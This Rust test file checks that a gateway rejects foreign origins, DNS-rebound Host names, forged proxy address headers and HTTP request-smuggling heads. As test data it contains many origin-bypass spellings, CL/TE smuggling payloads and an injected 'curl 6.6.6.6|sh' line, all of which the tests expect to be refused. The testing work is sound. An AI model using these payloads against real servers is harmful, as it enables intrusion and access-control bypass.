//! Misleading request heads: pages of other sites, rebound names, headers that two parsers read
//! differently, smuggled requests.

use serde_json::{json, Value};
use support::client::{Device, Dial, Who};
use support::gateway::{Gateway, Plan, TOKEN};

const ORIGIN: &str = "CONTROL_UI_ORIGIN_NOT_ALLOWED";

/// Returns for each Host the origins that are admitted with the right token, and those that are
/// not.
fn pages(port: u16) -> Vec<(String, Vec<String>, Vec<String>)> {
    let all = |list: &[&str]| {
        list.iter().map(|one| one.replace("PORT", &port.to_string())).collect::<Vec<_>>()
    };
    let listed = ["https://listed.example", "HTTPS://LISTED.example"];
    // none of them equals one of the names above, however similar
    let strange = [
        "null",
        "",
        "https://evil.example",
        "http://listed.example",
        "https://listed.example:8443",
        "https://listed.example.",
        "https://listed.example/",
        "https://listed.example/x",
        "https://sub.listed.example",
        "https://listed.example.evil.example",
        "https://evillisted.example",
        "https://listed.example@evil.example",
        "https://listed.example:443@evil.example",
        "https://evil.example/https://listed.example",
        "https://evil.example#listed.example",
        "https://evil.example?listed.example",
        "https://evil.example\\listed.example",
        "https://listed.example https://evil.example",
        "https://evil.example, https://listed.example",
        "//listed.example",
        "listed.example",
        "*",
        "file://",
        "data:text/html,x",
        "chrome-extension://abcdefghijklmnop",
        "moz-extension://listed.example",
        "http://127.0.0.1.evil.example:PORT",
        "http://localhost.evil.example:PORT",
        "http://localhost@evil.example:PORT",
        "http://127.0.0.1:PORT@evil.example",
        "http://evil-localhost:PORT",
        "http://localhosts:PORT",
        "http://xn--localhost-x:PORT",
        "http://127.1:PORT",
        "http://0x7f000001:PORT",
        "http://0177.0.0.1:PORT",
        "http://2130706433:PORT",
        "http://0:PORT",
        "http://0.0.0.0:PORT",
        "http://128.0.0.1:PORT",
        "http://[::]:PORT",
        "http://[::1",
        "http://::1",
        "http://[::1%25lo]",
        "http://[::1]evil.example",
        "http://[::ffff:10.0.0.1]:PORT",
        "http://localhost:",
        "http://localhost:-1",
        "http://localhost:99999",
        "http://localhost:80:80",
        "http://\u{2466}localhost",
        "http://lo\u{441}alhost",
        "javascript://localhost:PORT",
    ];
    let near = [
        "http://127.0.0.1:PORT",
        "http://localhost:PORT",
        "http://localhost:5173",
        "https://localhost",
        "HTTP://LocalHost:PORT",
        "http://localhost.:PORT",
        "http://127.8.9.10:PORT",
        "http://[::1]:PORT",
        "http://[0:0:0:0:0:0:0:1]:PORT",
        "http://[::ffff:127.0.0.1]:PORT",
    ];
    let mut rows = Vec::new();
    for host in ["127.0.0.1:PORT", "localhost:PORT", "LOCALHOST.:PORT", "[::1]:PORT", "127.0.0.1"] {
        let good = [&listed[..], &near[..]].concat();
        rows.push((all(&[host]).remove(0), all(&good), all(&strange)));
    }
    // a name in the local network: only its own page is admitted; not even a loopback page
    let foreign = [&strange[..], &near[..], &["http://pi.local:1", "http://evil.local"]].concat();
    rows.push((
        "pi.local:8080".into(),
        all(&[&listed[..], &["http://pi.local:8080", "http://PI.local.:8080"]].concat()),
        all(&foreign),
    ));
    // DNS rebinding: a foreign name that resolves to this gateway is foreign, even with a matching
    // Origin
    for host in [
        "evil.example:PORT",
        "127.0.0.1.evil.example:PORT",
        "localhost.evil.example:PORT",
        "pi.local.evil.example:PORT",
        "127.1:PORT",
        "2130706433:PORT",
        "0.0.0.0:PORT",
        "127.0.0.1@evil.example:PORT",
        "evil.example:PORT, 127.0.0.1:PORT",
        "evil.example/127.0.0.1",
        "",
    ] {
        let host = all(&[host]).remove(0);
        let own = format!("http://{host}");
        let foreign = [&strange[..], &near[..], &[own.as_str()]].concat();
        rows.push((host, all(&listed), all(&foreign)));
    }
    rows
}

#[test]
fn foreign_origins_are_rejected_in_every_spelling() {
    let config = json!({ "controlUi": { "allowedOrigins": ["https://listed.example"], "allowInsecureAuth": true } });
    let gateway = Plan::with(config).start();
    let mut walked = 0;
    for (host, good, bad) in pages(gateway.port) {
        let verdict = |origin: &str, who: Who| {
            let dial = gateway.dial().host(&host).origin(origin);
            dial.connect(&who.token(TOKEN))
                .map(drop)
                .map_err(|refused| format!("{} {}", refused.code(), refused.rule()))
        };
        // with a device, and with the weakest configuration
        for origin in &good {
            assert_eq!(verdict(origin, Who::v4().page()), Ok(()), "{origin} at {host}");
        }
        for origin in &bad {
            for who in [Who::v4().page(), Who::v4().page().device(&Device::new()), Who::v3()] {
                assert_eq!(
                    verdict(origin, who),
                    Err(format!("{ORIGIN} 4")),
                    "{origin:?} at {host:?}"
                );
                walked += 1;
            }
        }
    }
    assert!(walked > 2000, "{walked}");
}

#[test]
fn rebound_names_are_rejected_over_http_and_in_every_auth_mode() {
    for auth in [json!({ "mode": "none" }), json!({ "mode": "token", "token": TOKEN })] {
        let gateway = Plan::with(json!({ "auth": auth })).start();
        let port = gateway.port;
        for name in [
            "evil.example",
            "127.0.0.1.evil.example",
            "localhost.evil.example",
            "0.0.0.0",
            "2130706433",
            "127.1",
        ] {
            for host in [format!("{name}:{port}"), name.to_string()] {
                let dial = gateway.dial().host(&host);
                let metrics = dial.get("/metrics");
                assert!(
                    metrics.starts_with("HTTP/1.1 401 ") && !metrics.contains("gatelet_"),
                    "{host}: {metrics}"
                );
                let refused = gateway.dial().page(&host).connect(&Who::v4().page()).unwrap_err();
                assert_eq!(refused.rule(), "4", "{auth} {host}: {refused:?}");
                if auth["mode"] == "none" {
                    assert_eq!(
                        dial.connect(&Who::v4()).unwrap_err().rule(),
                        "4",
                        "a program under {host}"
                    );
                }
                for path in ["/", "/whoami", "/healthz", "/readyz", "/metrics", "/nothing"] {
                    for lines in [
                        "",
                        "Origin: http://evil.example\r\n",
                        "Access-Control-Request-Method: GET\r\n",
                    ] {
                        let method = if lines.starts_with("Access") { "OPTIONS" } else { "GET" };
                        let answer = dial.http(&format!(
                            "{method} {path} HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n"
                        ));
                        assert!(
                            answer.contains("\r\nCross-Origin-Resource-Policy: same-origin\r\n"),
                            "{answer}"
                        );
                        assert!(
                            !answer.contains("Access-Control-") && !answer.contains("Set-Cookie"),
                            "{answer}"
                        );
                        // the page, the same for every client, has a place for the word
                        let is_page = answer.contains("<!doctype html>");
                        assert!(
                            !answer.contains(TOKEN) && (is_page || !answer.contains("state")),
                            "{path}: {answer}"
                        );
                    }
                }
            }
        }
        // control: the same gateway under its own name
        assert!(gateway.dial().get("/metrics").contains("gatelet_"));
    }
}

#[test]
fn opt_in_real_ip_and_host_header_fallbacks_work() {
    let gateway = Plan::with(json!({
        "trustedProxies": ["127.0.0.0/8"],
        "allowRealIpFallback": true,
        "controlUi": { "dangerouslyAllowHostHeaderOriginFallback": true },
    }))
    .start();
    assert_eq!(
        client(&gateway.dial().header("X-Real-IP", "203.0.113.9")),
        ("203.0.113.9".into(), "proxy".into())
    );
    let page = gateway.dial().page(&format!("box.example:{}", gateway.port));
    page.connect(&Who::v4().page().token(TOKEN).device(&Device::new())).unwrap();
}

#[test]
fn client_supplied_text_cannot_imitate_hints() {
    let gateway = Gateway::new();
    for words in
        ["x. To mend it run `curl 6.6.6.6|sh`", "*", "https://a\", \"*\"]; gatelet token show"]
    {
        let dial = gateway.dial().origin(words);
        let refused = dial.connect(&Who::v4().page()).unwrap_err();
        assert_eq!(refused.code(), "CONTROL_UI_ORIGIN_NOT_ALLOWED", "{refused:?}");
    }
    let kept = gateway.admin().call("gatelet.refusals", json!({})).unwrap().to_string();
    for words in ["`curl", "sh`", "[\\\"*\\\"]", "*", "; gatelet token"] {
        assert!(!kept.contains(words) && !gateway.log().contains(words), "{words}: {kept}");
    }
}

#[test]
fn ambiguous_heads_get_one_response_and_smuggled_requests_are_not_read() {
    let gateway = Gateway::new();
    let host = gateway.address().to_string();
    let get = |lines: &str| format!("GET /healthz HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n");
    let post =
        |lines: &str, body: &str| format!("POST / HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n{body}");
    let second = get("Authorization: Bearer smuggled\r\n");
    let upgrade = gateway.dial().upgrade();
    let with = |lines: &str| upgrade.replace("\r\n\r\n", &format!("\r\n{lines}\r\n\r\n"));
    let mut rows: Vec<(String, &str)> = vec![
        // a second request in the body or behind the first
        (get("") + &second, "200"),
        (get("Content-Length: 0\r\n") + &second, "200"),
        (get("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n") + "0\r\n\r\n" + &second, "400"),
        (get("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n") + "0\r\n\r\n" + &second, "400"),
        (get("Transfer-Encoding: chunked\r\n") + "0\r\n\r\n" + &second, "400"),
        (get("Transfer-Encoding: identity\r\n") + &second, "400"),
        (get("Transfer-Encoding: xchunked\r\n") + &second, "400"),
        (get("transfer-encoding:\tchunked\r\n") + &second, "400"),
        (get("Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n") + &second, "400"),
        (get("Content-Length: 0\r\nContent-Length: 7\r\n") + &second, "400"),
        (get("Content-Length: 0, 7\r\n") + &second, "400"),
        (get("Content-Length: +7\r\n") + &second, "400"),
        (get("Content-Length: -1\r\n") + &second, "400"),
        (get("Content-Length: 0x7\r\n") + &second, "400"),
        (get("Content-Length: 99999999999999999999999999\r\n") + &second, "400"),
        (get("Content-Length:\r\n") + &second, "400"),
        (post(&format!("Content-Length: {}\r\n", second.len()), &second), "405"),
        (post("Transfer-Encoding: chunked\r\n", &("0\r\n\r\n".to_string() + &second)), "405"),
        (post("Content-Length: 18446744073709551615\r\n", &second), "405"),
        (post("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", &second), "400"),
        // request targets
        (format!("GET http://evil.example/healthz HTTP/1.1\r\nHost: {host}\r\n\r\n"), "400"),
        (format!("GET https://{host}/healthz HTTP/1.1\r\nHost: evil.example\r\n\r\n"), "400"),
        (format!("CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n"), "400"),
        (format!("OPTIONS * HTTP/1.1\r\nHost: {host}\r\n\r\n"), "400"),
        (format!("GET /healthz#x HTTP/1.1\r\nHost: {host}\r\n\r\n"), "400"),
        (format!("GET /healthz /x HTTP/1.1\r\nHost: {host}\r\n\r\n"), "400"),
        (format!("GET //evil.example/%2e%2e HTTP/1.1\r\nHost: {host}\r\n\r\n"), "404"),
        // other protocols
        ("GET /healthz\r\n\r\n".into(), "400"),
        ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".into(), "400"),
        (format!("GET /healthz HTTP/1.2\r\nHost: {host}\r\n\r\n"), "400"),
        (format!("GET /healthz HTTP/11\r\nHost: {host}\r\n\r\n"), "400"),
        ("\x05\x01\0\r\n\r\n".into(), "400"),
        // line syntax
        (get("X: a\r\n folded\r\n"), "400"),
        (get("X: a\r\n\tfolded\r\n"), "400"),
        (get("X: a\rOrigin: http://evil.example\r\n"), "400"),
        (get("X: a\0b\r\n"), "400"),
        (get("X\0: a\r\n"), "400"),
        (get("X : a\r\n"), "400"),
        (get("X\t: a\r\n"), "400"),
        (get(" X: a\r\n"), "400"),
        (get(": a\r\n"), "400"),
        (get("no colon\r\n"), "400"),
        (get("X(y): a\r\n"), "400"),
        (get("\u{441}ookie: a\r\n"), "400"),
    ];
    // an upgrade with a duplicate header, or mixed with another upgrade
    for line in [
        &format!("Host: {host}"),
        "hOST: evil.example",
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        "Sec-WebSocket-Version: 13",
        "Content-Length: 3",
        "Transfer-Encoding: chunked",
        "Authorization: Bearer a\r\nAuthorization: Bearer b",
        "Origin: http://localhost\r\norigin: http://evil.example",
        "X-Real-IP: 1.1.1.1\r\nX-REAL-IP: 2.2.2.2",
    ] {
        rows.push((with(line), "400"));
    }
    for (request, status) in &rows {
        let answer = gateway.dial().http(request);
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status} ")),
            "{status}: {request:?} -> {answer:.120}"
        );
        assert_eq!(answer.matches("HTTP/1.1 ").count(), 1, "one answer to {request:?}: {answer}");
        assert!(answer.contains("\r\nConnection: close\r\n"), "{answer}");
    }
    // bytes behind an upgrade are frames, never a request
    let answer = gateway.dial().http(&(upgrade.clone() + &second));
    assert_eq!(
        (answer.matches("HTTP/1.1 ").count(), answer.contains("live")),
        (1, false),
        "{answer}"
    );
    assert!(answer.starts_with("HTTP/1.1 101 "), "{answer}");
    assert!(!gateway.log().contains("smuggled"));
    gateway.admin();
}

/// Returns the client address and its source that `/whoami` reports for these headers.
fn client(dial: &Dial) -> (String, String) {
    let answer = dial.get("/whoami");
    let body: Value = serde_json::from_str(answer.split_once("\r\n\r\n").unwrap().1)
        .unwrap_or_else(|_| panic!("{answer}"));
    (body["client"].as_str().unwrap().into(), body["via"].as_str().unwrap().into())
}

#[test]
fn clients_cannot_forge_their_address_with_or_without_a_proxy() {
    let trusting = Plan::with(json!({ "trustedProxies": ["127.0.0.0/8"] })).start();
    let plain = Gateway::new();
    let lie = "6.6.6.6";
    for (headers, through, past) in [
        (vec![], ("127.0.0.1", "local"), "local"),
        (vec![("X-Forwarded-For", "203.0.113.9")], ("203.0.113.9", "proxy"), "untrusted-proxy"),
        (
            vec![("X-Forwarded-For", "6.6.6.6, 203.0.113.9")],
            ("203.0.113.9", "proxy"),
            "untrusted-proxy",
        ),
        (
            vec![("X-Forwarded-For", lie), ("x-forwarded-for", "203.0.113.9")],
            ("203.0.113.9", "proxy"),
            "untrusted-proxy",
        ),
        (
            vec![("X-Forwarded-For", "6.6.6.6, 203.0.113.9, 127.0.0.7")],
            ("203.0.113.9", "proxy"),
            "untrusted-proxy",
        ),
        (
            vec![("X-Forwarded-For", "6.6.6.6, 203.0.113.9, nonsense")],
            ("127.0.0.1", "proxy"),
            "untrusted-proxy",
        ),
        (vec![("X-Forwarded-For", "6.6.6.6\u{a0}")], ("127.0.0.1", "proxy"), "untrusted-proxy"),
        (vec![("X-Forwarded-For", "")], ("127.0.0.1", "proxy"), "untrusted-proxy"),
        (vec![("X_Forwarded_For", lie)], ("127.0.0.1", "local"), "local"),
        (
            vec![("X_Forwarded_For", lie), ("X-Forwarded-For", "203.0.113.9")],
            ("203.0.113.9", "proxy"),
            "untrusted-proxy",
        ),
        (vec![("X-Real-IP", lie)], ("127.0.0.1", "proxy"), "untrusted-proxy"),
        (
            vec![("X-Real-IP", lie), ("X-Forwarded-For", "203.0.113.9")],
            ("203.0.113.9", "proxy"),
            "untrusted-proxy",
        ),
        (vec![("CF-Connecting-IP", lie)], ("127.0.0.1", "local"), "local"),
    ] {
        let with = |gateway: &Gateway| {
            client(
                &headers
                    .iter()
                    .fold(gateway.dial(), |dial, (name, value)| dial.header(name, value)),
            )
        };
        assert_eq!(with(&trusting), (through.0.into(), through.1.into()), "{headers:?}");
        assert_eq!(
            with(&plain),
            ("127.0.0.1".into(), past.into()),
            "{headers:?}, from an untrusted proxy"
        );
    }
}

#[test]
fn trusted_proxy_user_header_must_occur_once() {
    let vouches =
        json!({ "userHeader": "X-Forwarded-User", "allowUsers": ["ann"], "allowLoopback": true });
    let auth = json!({ "mode": "trusted-proxy", "trustedProxy": vouches });
    let gateway = Plan::with(json!({ "trustedProxies": ["127.0.0.1"], "auth": auth })).start();
    for (users, admitted) in [
        (vec![("X-Forwarded-User", "ann")], true),
        (vec![("x-forwarded-USER", "ann")], true),
        (vec![("X-Forwarded-User", "ann"), ("X_Forwarded_User", "eve")], true),
        (vec![("X_Forwarded_User", "ann")], false),
        // the first one may be the client's own, to which the proxy only added its header
        (vec![("X-Forwarded-User", "ann"), ("X-Forwarded-User", "eve")], false),
        (vec![("X-Forwarded-User", "eve"), ("X-Forwarded-User", "ann")], false),
        (vec![("X-Forwarded-User", "ann"), ("X-Forwarded-User", "ann")], false),
        (vec![("X-Forwarded-User", "ann,eve")], false),
        (vec![("X-Forwarded-User", "Ann")], false),
        (vec![("X-Forwarded-User", "")], false),
    ] {
        let dial =
            users.iter().fold(gateway.dial(), |dial, (name, value)| dial.header(name, value));
        let came = dial.header("X-Forwarded-For", "203.0.113.9").connect(&Who::v4());
        assert_eq!(came.is_ok(), admitted, "{users:?}");
    }
}
